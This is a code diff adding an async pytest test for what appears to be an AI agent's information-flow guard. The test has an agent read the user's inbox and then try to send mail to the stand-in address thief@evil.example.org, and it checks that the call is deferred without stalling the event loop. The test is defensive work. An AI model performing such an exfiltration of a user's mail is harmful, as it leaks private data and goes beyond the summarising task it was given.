@@ -202,6 +202,30 @@ async def test_a_long_result_does_not_hold_up_others(world: FlowWorld) -> None:
     assert turns > 20
 
 
+@pytest.mark.parametrize(
+    "body",
+    [
+        "http://[::1]/" * 4_000,
+        "\ufdfa" * 12_000,
+        "lorem ipsum " * 60_000,
+        [{"at": f"row {n}"} for n in range(1_000)],
+    ],
+    ids=["one long word", "letters that are words", "words", "rows"],
+)
+async def test_a_long_argument_does_not_hold_up_others(world: FlowWorld, body: Any) -> None:
+    """While it is found out where its values came from, the loop goes round."""
+    let_time_pass(world)
+    await world.open("Summarise my mail")
+    await world.run("read_mail", folder="inbox")
+    call = asyncio.create_task(world.call("send_mail", to="thief@evil.example.org", body=body))
+    turns = 0
+    while not call.done():
+        turns += 1
+        await asyncio.sleep(0)
+    assert (await call).outcome is Outcome.DEFER
+    assert turns > 20
+
+
 async def test_a_call_that_is_cut_while_its_result_is_taken_in_releases_nothing(world: FlowWorld) -> None:
     """The fence is looked at between the turns and after them."""
     let_time_pass(world)
